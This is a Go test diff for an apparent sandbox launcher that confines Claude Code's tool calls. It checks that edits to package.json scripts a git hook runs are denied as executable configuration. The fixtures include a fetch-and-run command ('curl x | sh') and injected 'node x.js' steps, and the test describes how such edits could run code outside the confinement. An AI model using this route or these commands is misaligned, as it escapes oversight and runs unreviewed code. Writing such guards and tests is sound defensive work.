@@ -284,3 +284,46 @@ func TestLaunchesNameTheConfiner(t *testing.T) {
 		}
 	}
 }
+
+// TestJailFilesPackageEntries: with init's defaults, a Write or an Edit
+// of package.json that changes an entry the project's git hooks run by
+// name (a pre-commit hook's npm test runs scripts.test, which runs
+// scripts.lint) is decided as executable configuration, as the launcher
+// puts such an entry back after a confined call; Claude Code makes the
+// file tools' changes itself, unconfined. Controls: a dependency added,
+// the same script written again with an escape, and a package.json no
+// hook runs are ordinary.
+func TestJailFilesPackageEntries(t *testing.T) {
+	h, _ := jailHarness(t)
+	const pkg = `{"name": "x", "scripts": {"test": "npm run lint", "lint": "eslint ."}, "dependencies": {}}` + "\n"
+	write := func(rel, content string) {
+		t.Helper()
+		p := filepath.Join(h.Project, rel)
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte(content), 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	write(".git/hooks/pre-commit", "#!/bin/sh\nnpm test\n")
+	write("package.json", pkg)
+	write("tools/package.json", pkg)
+	path := filepath.Join(h.Project, "package.json")
+	edit := func(old, repl string) map[string]any {
+		return with(h.fixture("pretooluse-edit.json"), func(m map[string]any) {
+			m["tool_input"] = map[string]any{"file_path": path, "old_string": old, "new_string": repl}
+		})
+	}
+	whole := func(content string) map[string]any {
+		return withInput(h.writeCall(path), "content", content)
+	}
+	expect(t, "Edit scripts.test", h.decide(edit(`"npm run lint"`, `"curl x | sh"`)), Deny, ReasonExecConfig)
+	expect(t, "Edit scripts.lint, which scripts.test runs", h.decide(edit(`"eslint ."`, `"eslint . && node x.js"`)), Deny, ReasonExecConfig)
+	expect(t, "Edit: a pretest added", h.decide(edit(`"test":`, `"pretest": "node x.js", "test":`)), Deny, ReasonExecConfig)
+	expect(t, "Write: scripts.test gone", h.decide(whole(`{"name": "x"}`)), Deny, ReasonExecConfig)
+	expect(t, "control: Edit a dependency in", h.decide(edit(`"dependencies": {}`, `"dependencies": {"left-pad": "1.3.0"}`)), Allow, ReasonScopedGrant)
+	expect(t, "control: Edit scripts.lint written again with an escape", h.decide(edit(`"eslint ."`, `"eslint \u002e"`)), Allow, ReasonScopedGrant)
+	expect(t, "control: Write the same scripts, another version", h.decide(whole(strings.Replace(pkg, `"name": "x"`, `"name": "x", "version": "2.0.0"`, 1))), Allow, ReasonScopedGrant)
+	expect(t, "control: Write tools/package.json, which no hook runs", h.decide(withInput(h.writeCall(filepath.Join(h.Project, "tools", "package.json")), "content", `{"scripts": {"test": "node x.js"}}`)), Allow, ReasonScopedGrant)
+}
